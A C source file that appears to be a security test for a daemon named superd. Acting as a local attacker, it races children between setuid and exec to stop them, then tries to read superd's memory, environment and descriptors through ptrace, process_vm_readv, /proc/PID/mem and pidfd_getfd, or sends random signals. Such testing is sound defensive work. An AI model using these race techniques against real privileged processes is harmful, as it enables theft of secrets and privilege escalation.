/* The handlers' own user against superd, while children are between setuid and exec.
 *
 *   attacker peek  SECONDS ADDRESS...   stops fresh children and tries to read superd's memory
 *   attacker kill  SECONDS SIGNAL...    sends random signals to fresh children
 *
 * Runs as the handlers' user.  Finds children by their number: the next ones after the last.
 * Prints: windows successes.  A window is a child of ours that was still called "superd" after it
 * had been stopped by us; a success is a byte of superd's memory, a trace or a descriptor. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long windows, successes;

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int last_pid(void)
{
	char text[128], *p;
	int fd = open("/proc/loadavg", O_RDONLY);
	ssize_t n = read(fd, text, sizeof text - 1);

	close(fd);
	if (n <= 0)
		return 0;
	text[n] = '\0';
	p = strrchr(text, ' ');
	return p ? atoi(p + 1) : 0;
}

static int is_superd(int pid)
{
	char path[64], name[32] = "";
	int fd;

	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	if (read(fd, name, sizeof name - 1) < 0)
		name[0] = '\0';
	close(fd);
	return strcmp(name, "superd\n") == 0;
}

/* A signal is taken on the way back to user mode: a child within execve(2) stops behind it. */
static int is_stopped(int pid)
{
	char path[64], text[256], *p;

	snprintf(path, sizeof path, "/proc/%d/stat", pid);
	for (int tries = 0; tries < 200; tries++) {
		int fd = open(path, O_RDONLY);
		ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);

		if (fd >= 0)
			close(fd);
		if (n <= 0)
			return 0;
		text[n] = '\0';
		p = strrchr(text, ')');
		if (p && (p[2] == 'T' || p[2] == 't'))
			return 1;
	}
	return 0;
}

static void report(const char *how, int pid)
{
	successes++;
	fprintf(stderr, "attacker: %s worked on %d, called %s\n", how, pid,
		is_superd(pid) ? "superd" : "something else");
}

static void read_file(const char *name, int pid)
{
	char path[64], bytes[16];
	int fd;

	snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	if (read(fd, bytes, sizeof bytes) > 0 && is_superd(pid))
		report(name, pid);
	close(fd);
}

static void read_memory(int pid, unsigned long address)
{
	char path[64], bytes[16];
	struct iovec mine = { bytes, sizeof bytes }, theirs = { (void *)address, sizeof bytes };
	int fd;

	if (process_vm_readv(pid, &mine, 1, &theirs, 1, 0) > 0)
		report("process_vm_readv", pid);
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	fd = open(path, O_RDWR);
	if (fd < 0)
		return;
	/* The descriptor is bound to the address space it was opened on: superd's, or the handler's
	 * own, where this address means nothing. */
	if (pread(fd, bytes, sizeof bytes, (off_t)address) > 0)
		report("/proc/PID/mem", pid);
	close(fd);
}

static void peek(int pid, int count, char **addresses)
{
	int pidfd;

	for (int i = 0; i < count; i++)
		read_memory(pid, strtoul(addresses[i], NULL, 16));
	if (kill(pid, SIGSTOP) < 0)
		return;
	if (is_stopped(pid) && is_superd(pid)) {
		windows++;
		for (int i = 0; i < count; i++)
			read_memory(pid, strtoul(addresses[i], NULL, 16));
		read_file("maps", pid);
		read_file("environ", pid);
		read_file("auxv", pid);
		if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
			report("PTRACE_SEIZE", pid);
			ptrace(PTRACE_DETACH, pid, 0, 0);
		}
		pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
		if (pidfd >= 0 && syscall(SYS_pidfd_getfd, pidfd, 0, 0) >= 0)
			report("pidfd_getfd", pid);
		if (pidfd >= 0)
			close(pidfd);
	}
	kill(pid, SIGCONT);
}

static void molest(int pid, int count, char **signals)
{
	int n = atoi(signals[rand() % count]);

	if (kill(pid, n) == 0) {
		windows++;
		/* Stopped ones go on after a while, or are told to stop for good. */
		if (n == SIGSTOP && rand() % 2)
			kill(pid, rand() % 2 ? SIGCONT : SIGKILL);
	}
}

int main(int argc, char **argv)
{
	double end;
	int parent = getppid();

	if (argc < 4)
		return 100;
	end = now() + atof(argv[2]);
	srand(4711);
	for (int tried = 0; now() < end && getppid() == parent;) {
		int last = last_pid();

		if (tried > last + 64 || tried < last - 64)
			tried = last;
		for (int pid = tried > 0 ? tried : 2; pid <= last + 2; pid++) {
			if (pid == getpid())
				continue;
			if (strcmp(argv[1], "peek") == 0)
				peek(pid, argc - 3, argv + 3);
			else
				molest(pid, argc - 3, argv + 3);
		}
		tried = last;
	}
	printf("%ld %ld\n", windows, successes);
	return 0;
}
